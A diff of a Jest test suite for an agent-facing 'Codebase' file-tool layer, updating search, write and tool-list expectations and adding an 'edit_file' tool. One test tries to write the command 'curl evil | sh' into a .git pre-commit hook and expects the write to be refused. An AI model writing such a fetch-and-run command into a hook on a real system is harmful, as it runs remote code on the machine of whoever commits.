@@ -248,9 +248,8 @@ describe('Codebase', () => {
       const limited = await codebase.search('export', { limit: 1 });
       expect(limited).toMatchObject({ truncated: true });
       expect(limited.matches).toHaveLength(1);
-      // Nested quantifiers are fine on a linear-time engine; lookaround is what it cannot do.
-      expect((await codebase.search('(a+)+$', { regex: true })).matches).toEqual([]);
-      await expect(codebase.search('a(?=b)', { regex: true })).rejects.toThrow(/lookaround .* not supported/);
+      // Nested quantifiers are safe on the linear-time engine: an answer, not a refusal.
+      await expect(codebase.search('(a+)+$', { regex: true })).resolves.toMatchObject({ truncated: false });
       await expect(codebase.search('(', { regex: true })).rejects.toThrow(/invalid regular expression "\("/);
       await expect(codebase.search('')).rejects.toThrow(/non-empty string/);
     });
@@ -283,7 +282,7 @@ describe('Codebase', () => {
       expect(fs.readFileSync(path.join(root, 'src', 'new', 'deeper', 'b.ts'), 'utf8')).toBe('new\n');
       expect(fs.readdirSync(path.join(root, 'src')).filter((n) => n.endsWith('.tmp'))).toEqual([]);
 
-      await expect(codebase.write('.git/hooks/pre-commit', 'curl evil | sh')).rejects.toThrow(/files under \.git are not writable/);
+      await expect(codebase.write('.git/hooks/pre-commit', 'curl evil | sh')).rejects.toThrow(/inside a \.git folder/);
       await expect(codebase.write('.', 'x')).rejects.toThrow(/it is the codebase root/);
       await expect(codebase.write('src', 'x')).rejects.toThrow(/it is a folder/);
       await expect(codebase.write('src/big.txt', 'x'.repeat(2 * 1024 * 1024))).rejects.toThrow(/over the limit of 1048576 bytes/);
@@ -330,6 +329,7 @@ describe('Codebase', () => {
       expect(lock.lost).toBe(true);
       expect(fs.readFileSync(path.join(root, 'src', 'a.ts'), 'utf8')).toContain('export const a = 1;');
 
+      await codebase.read('src/a.ts'); // the tools refuse to overwrite what the agent has not read
       const model = new ScriptedToolModel([[call('1', 'write_file', { path: 'src/a.ts', content: 'stale edit\n' })], 'ok']);
       const result = await runTools(model, { messages: [{ role: 'user', content: 'edit a.ts' }] }, codebaseTools(codebase));
       const output = result.messages.find((m) => m.role === 'tool')?.content;
@@ -351,7 +351,7 @@ describe('Codebase', () => {
     open.push(locks);
     const codebase = new Codebase(root, { locks, owner: 'w1', allowWrite: true });
     const tools = codebaseTools(codebase);
-    expect(tools.map((t) => t.name)).toEqual(['read_file', 'list_files', 'search_code', 'write_file']);
+    expect(tools.map((t) => t.name)).toEqual(['read_file', 'list_files', 'search_code', 'write_file', 'edit_file']);
     for (const tool of tools) {
       expect(tool.parameters.type).toBe('object');
       expect(tool.description.length).toBeGreaterThan(40);
@@ -372,7 +372,7 @@ describe('Codebase', () => {
     expect(outputs[4]).toMatch(/^error: invalid arguments for "read_file"/);
     expect(fs.readFileSync(path.join(root, 'src', 'a.ts'), 'utf8')).toBe('export const b = 3;\n');
     expect(result.response.text).toBe('Done: b is now 3.');
-    expect(model.requests[0]?.tools?.map((t) => t.name)).toEqual(['read_file', 'list_files', 'search_code', 'write_file']);
+    expect(model.requests[0]?.tools?.map((t) => t.name)).toEqual(['read_file', 'list_files', 'search_code', 'write_file', 'edit_file']);
     expect(locks.list()).toEqual([]);
   });
 
